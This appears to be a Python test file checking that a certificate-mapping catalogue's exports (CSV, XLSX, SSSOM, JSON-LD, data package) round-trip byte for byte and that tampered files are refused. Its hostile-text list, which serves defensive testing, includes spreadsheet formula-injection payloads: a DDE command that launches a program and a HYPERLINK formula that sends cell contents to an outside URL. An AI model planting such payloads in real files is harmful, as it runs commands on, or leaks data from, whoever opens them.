"""What was exported comes back into an empty store, and leaves it again with the same bytes."""

from __future__ import annotations

import csv
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
import strategies as s
from exchange.exported import ON, exported
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from mapper.answer_json import answer_json
from mapper.answers import look_up
from mapper.catalogue.records import MemoryRecords
from mapper.domain import (
    CHINA,
    Certainty,
    Claim,
    Condition,
    EditionId,
    Link,
    LinkId,
    ListId,
    Node,
    NodeId,
    NodeKind,
    Relation,
    SourceId,
    Step,
    Text,
)
from mapper.editions import PublishedRecords
from mapper.errors import FaultyFile
from mapper.exchange import (
    COLUMNS,
    Format,
    PackageRecords,
    read_csv,
    read_jsonld,
    read_package,
    read_sssom,
    read_xlsx,
)
from mapper.exchange.tables import Lines, header, row_of
from mapper.exchange.voice import Voice
from mapper.exchange.workbook import CUT, LONGEST, cell, uncell, workbook
from mapper.ports import Records
from mapper.sentences import Speaker


def text_of(data: bytes) -> StringIO:
    return StringIO(data.decode(), newline="")


READ: Mapping[Format, Callable[[bytes], Sequence[Link]]] = {
    Format.CSV: lambda data: list(read_csv(text_of(data))),
    Format.XLSX: lambda data: list(read_xlsx(BytesIO(data))),
    Format.SSSOM: lambda data: list(read_sssom(text_of(data))),
    Format.JSONLD: lambda data: list(read_jsonld(text_of(data))),
    Format.PACKAGE: lambda data: read_package(BytesIO(data)).links,
}
FORMATS = pytest.mark.parametrize("form", READ)


def files(records: Records, form: Format) -> list[bytes]:
    """All files that hold the links in this format."""
    halves = (False, True) if form is Format.SSSOM else (False,)
    return [exported(records, form, negatives=half)[0] for half in halves]


def links_of(records: Records) -> list[Link]:
    found = [link for each in records.linked() for link in records.links_from([each])]
    return sorted(found, key=lambda link: (link.subject, link.id))


def back(made: Sequence[bytes], form: Format) -> list[Link]:
    found = [link for data in made for link in READ[form](data)]
    return sorted(found, key=lambda link: (link.subject, link.id))


def emptied(records: MemoryRecords, links: Sequence[Link]) -> MemoryRecords:
    """The same vocabulary, with these links alone."""
    table = {path: rows for path, rows in records.table.items() if not path.startswith("links/")}
    return MemoryRecords(table, tuple(links))


# --- all that is shipped, and what an office publishes ------------------------------------


@FORMATS
def test_the_shipped_links_come_back_and_leave_again_with_the_same_bytes(
    shipped: MemoryRecords, form: Format
) -> None:
    made = files(shipped, form)
    links = back(made, form)
    assert links == links_of(shipped)
    again = read_package(BytesIO(made[0])) if form is Format.PACKAGE else emptied(shipped, links)
    assert files(again, form) == made


@FORMATS
def test_office_links_come_back_too(published: PublishedRecords, form: Format) -> None:
    links = back(files(published, form), form)
    assert sum(link.approved_by for link in links) == 3
    assert links == links_of(published)


@FORMATS
@settings(max_examples=10)
@given(asked=s.questions())
def test_links_of_any_world_come_back(asked: s.Asked, form: Format) -> None:
    assert back(files(asked.world, form), form) == links_of(asked.world)


# --- hostile texts ---------------------------------------------------------------------------

HOSTILE = {
    "a formula": "=1+1",
    "a command": "=cmd|' /C calc'!A0",
    "a link that tells": '=HYPERLINK("http://example.org/?"&A1)',
    "a plus": "+49 30 1234",
    "a minus": "-2+3",
    "an at": "@SUM(1,1)",
    "a full-width formula": "＝1+1",
    "a tab and a formula": "\t=1+1",
    "a carriage return and a formula": "\r=1+1",
    "a guard": "'=1+1",
    "two guards": "''tis",
    "leading zeros": "007",
    "a number too long": "12345678901234567890",
    "a date in the making": "3-4",
    "a truth": "TRUE",
    "spaces": "  two before and one after ",
    "line ends of all kinds": "one\ntwo\r\nthree\rfour\u2028five\u0085six",
    "quotes and commas": 'say ""no"", "yes";',
    "emoji": "👩🏽‍⚖️🏳️‍🌈",
    "only in GB18030": "𠮷㐀𫠠䶮",
    "Traditional and Latin": "註冊會計師 – naïve Zürich",
    "right to left": "\u202e3+1=\u202c عربي",
    "a byte-order mark": "\ufeff证",
    "no width": "证\u200b书",
    "an escape of workbooks": "_x003D_1+1",
    "an escape of an escape": "_x005F_x0041_",
    "a bell": "ring\x07",
    "an escape before a bell": "_x0041\x07",
    "not a character": "\uffff\ufffe",
    "markup": "<b>&amp;</b>]]><![CDATA[",
    "hashes": "# curie_map:",
    "braces": "{subject} {{ 7*7 }}",
}


def hostile_world(text: str) -> s.World:
    """A link, its certificate and its condition that say this wherever a text may stand."""
    both, pair = Text(text, f"{text}!"), (f"{text}1", f"{text}2")
    node = Node(
        NodeId("c"), NodeKind.CERTIFICATE, both, Certainty.SEEN, native_name=text,
        aliases=() if "|" in text else pair, gloss=both, authority=text, code=text,
    )  # fmt: skip
    link = Link(
        LinkId("l"), node.id, Relation.RECOGNISED_AS, s.title("T3"), CHINA, None,
        (Claim(LinkId("l"), SourceId(text), text, Certainty.SEEN, "", text, text, both),),
        part_text=both, covers=text, result_term=text, note=both,
        conditions=(Condition("other", "=", text, text=both),),
        steps=(Step("papers", 1, "holder", both),),
    )  # fmt: skip
    return s.World(s.vocabulary(domestic=[node]), {node.id: node}, (link,))


@FORMATS
@pytest.mark.parametrize("why", HOSTILE)
def test_a_hostile_text_comes_back_as_it_was(form: Format, why: str) -> None:
    world = hostile_world(HOSTILE[why])
    made = files(world, form)
    assert back(made, form) == list(world.links)
    if form is Format.PACKAGE:
        again = read_package(BytesIO(made[0]))
        assert again.certificates == world.certificates
        assert files(again, form) == made


PIECES = st.sampled_from(
    [*"=+-@\t\r\n'\",;{}[]证 aA1＝＠\ufeff\u2028\x07", "_x0041", "_", "x005F_"]
)
NASTY = st.lists(PIECES, max_size=8).map("".join)
FREE = st.one_of(NASTY, st.text(max_size=12).filter(lambda t: t.isprintable() and "|" not in t))
BILINGUAL = st.one_of(st.none(), st.builds(Text, FREE.filter(bool), FREE))
ROWS = st.builds(
    Condition, FREE, FREE, FREE, FREE, FREE, FREE, FREE, BILINGUAL, st.sampled_from(Certainty)
)
STEPS = st.builds(Step, FREE, st.integers(0, 9), FREE, BILINGUAL, st.sampled_from(Certainty))


@given(FREE)
def test_any_text_comes_back_out_of_a_cell_of_a_workbook(text: str) -> None:
    assert uncell(cell(text)) == text


@given(
    FREE, BILINGUAL, st.lists(ROWS, max_size=3), st.lists(STEPS, max_size=2), st.integers(0, 9),
    st.lists(FREE.filter(bool), max_size=2),
)  # fmt: skip
def test_whatever_stands_in_a_link_comes_back_out_of_a_table(
    text: str, both: Text | None, rows: list[Condition], steps: list[Step], people: int,
    parts: list[str],
) -> None:  # fmt: skip
    claim = Claim(LinkId("l1"), SourceId(text), text, Certainty.PARTLY, text, text, text, both)
    link = Link(
        LinkId("l1"), NodeId(f"{text}x"), Relation.RECOGNISED_AS, s.title("T3"), CHINA,
        EditionId(text) if text else None, (claim,), list_id=ListId("l"), part=tuple(parts),
        part_mode="one_of", part_text=both, covers=text, conditions=tuple(rows),
        steps=tuple(steps), result_term=text, valid_from=text, valid_until=text, note=both,
        approved_by=people, first_edition=EditionId("e") if people else None,
    )  # fmt: skip
    plain = replace(link, valid_from="", valid_until="", conditions=())  # words need real values
    said = replace(Voice(s.World(s.vocabulary(), {})).say(plain), link=link)
    stream = StringIO(newline="")
    stream.write(header())
    Lines(stream).add(row_of(said))
    stream.seek(0)
    assert list(read_csv(stream)) == [link]
    assert list(read_xlsx(BytesIO(sheet_of([row_of(said)])))) == [link]


# --- what does not come back is refused ---------------------------------------------------------


def sheet_of(rows: Sequence[Mapping[str, str]]) -> bytes:
    sink = BytesIO()
    names = COLUMNS[:-1]
    with workbook(sink, ["links"]) as book, book.sheet(names, [10] * len(names)) as write:
        for row in rows:
            write([row[name] for name in names])
    return sink.getvalue()


@pytest.mark.parametrize(
    ("spoil", "reason"),
    [
        (lambda text: text.replace("claims", "claim", 1), "a column is missing"),
        (lambda text: text.replace("recognised_as", "same_as"), "no such relation"),
        (lambda text: text.replace('[{""certainty', '{""certainty', 1), "broken JSON"),
        (lambda text: text[: len(text) // 2], "half a file"),
        (lambda text: text.replace("title,engineering", "tittle,engineering"), "no such kind"),
    ],
)
def test_what_is_no_export_is_refused_with_its_line(
    small: MemoryRecords, spoil: Callable[[str], str], reason: str
) -> None:
    text = spoil(exported(small, Format.CSV)[0].decode())
    with pytest.raises(FaultyFile) as caught:
        list(read_csv(StringIO(text)))
    assert caught.value.faults[0].line >= 1, reason


def test_the_mark_that_some_programs_put_before_utf8_does_no_harm(small: MemoryRecords) -> None:
    text = exported(small, Format.CSV)[0].decode()
    assert not text.startswith("\ufeff")
    assert list(read_csv(StringIO("\ufeff" + text))) == list(read_csv(StringIO(text)))


def refused(read: Callable[[], object]) -> str:
    """The one fault for which a file is refused."""
    with pytest.raises(FaultyFile) as caught:
        read()
    (fault,) = caught.value.faults
    return str(fault)


def saved_again(data: bytes, change: Callable[[Workbook], object] = lambda _: None) -> bytes:
    """A workbook as a spreadsheet program saves it, its own way."""
    book, sink = load_workbook(BytesIO(data)), BytesIO()
    change(book)
    book.save(sink)
    return sink.getvalue()


def test_a_workbook_that_was_saved_by_a_program_comes_back(small: MemoryRecords) -> None:
    data = saved_again(exported(small, Format.XLSX)[0])
    assert back([data], Format.XLSX) == links_of(small)


def put(column: str, value: object) -> Callable[[Workbook], object]:
    at = COLUMNS.index(column) + 1
    return lambda book: book["links"].cell(row=3, column=at, value=value)


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (put("note_en", "=1+1"), "is no text"),
        (put("valid_from", 2022), "is no text"),
        (put("relation", "same_as"), "same_as"),
        (put("note_en", "x" * (LONGEST - len(CUT)) + CUT), "was cut"),
        (lambda book: book["links"].delete_cols(1), "column is missing"),
        (lambda book: book.remove(book["links"]), "links"),
    ],
)
def test_a_workbook_that_does_not_hold_the_links_as_they_left_is_refused(
    small: MemoryRecords, change: Callable[[Workbook], object], told: str
) -> None:
    data = saved_again(exported(small, Format.XLSX)[0], change)
    assert told in refused(lambda: READ[Format.XLSX](data))


def test_what_was_too_long_for_a_cell_is_refused_and_not_taken_for_whole() -> None:
    world = hostile_world("证" * (LONGEST + 1))
    data = exported(world, Format.XLSX)[0]
    assert "was cut" in refused(lambda: READ[Format.XLSX](data))
    assert back(files(world, Format.CSV), Format.CSV) == list(world.links)


@pytest.mark.parametrize("form", [Format.CSV, Format.SSSOM, Format.PACKAGE])
def test_a_long_cell_is_read_whatever_this_process_read_before(form: Format) -> None:
    world = hostile_world("证" * 200_000)
    made = files(world, form)
    csv.field_size_limit(131_072)
    assert back(made, form) == list(world.links)


@pytest.mark.parametrize("form", [Format.XLSX, Format.PACKAGE])
def test_what_is_no_file_of_the_kind_is_refused(form: Format) -> None:
    assert "zip" in refused(lambda: READ[form](b"not a zip"))


def test_a_package_whose_files_were_changed_is_refused(small: MemoryRecords) -> None:
    data, changed = exported(small, Format.PACKAGE)[0], BytesIO()
    with ZipFile(BytesIO(data)) as old, ZipFile(changed, "w") as new:
        for info in old.infolist():
            told = old.read(info)
            spoilt = told.replace(b"recognised_as", b"comparable_to")
            new.writestr(info, told if info.filename.endswith(".json") else spoilt)
    told = refused(lambda: READ[Format.PACKAGE](changed.getvalue()))
    assert "links.csv is not what datapackage.json says of it" in told


# --- a package is a whole store -----------------------------------------------------------------


@pytest.fixture(scope="module")
def package(shipped: MemoryRecords) -> PackageRecords:
    return read_package(BytesIO(exported(shipped, Format.PACKAGE)[0]))


def test_a_package_holds_the_tables_of_the_catalogue(
    shipped: MemoryRecords, package: PackageRecords
) -> None:
    wanted, held = shipped.vocabulary, package.vocabulary
    for name in ("places", "editions", "lists", "sources", "relations", "conditions", "steps_of",
                 "validity", "channels", "programmes", "degrees", "steps", "levels"):  # fmt: skip
        assert getattr(held, name) == getattr(wanted, name), name
    assert package.certificates == shipped.certificates
    assert package.totals() == shipped.totals()
    assert package.loaded_counts() == shipped.loaded_counts()
    for certificate in shipped.certificates:
        asks = tuple(shipped.entry_routes(certificate))
        assert tuple(package.entry_routes(certificate)) == asks
        assert package.families_of(certificate) == shipped.families_of(certificate)


@pytest.mark.parametrize("asked", ["ABT", "PMP", "香港建筑师", "CISA"])
def test_a_package_answers_as_the_catalogue_does(
    shipped: MemoryRecords, package: PackageRecords, asked: str
) -> None:
    answers = [
        answer_json(look_up(records, asked, on=ON), Speaker(records))
        for records in (shipped, package)
    ]
    assert answers[0] == answers[1]
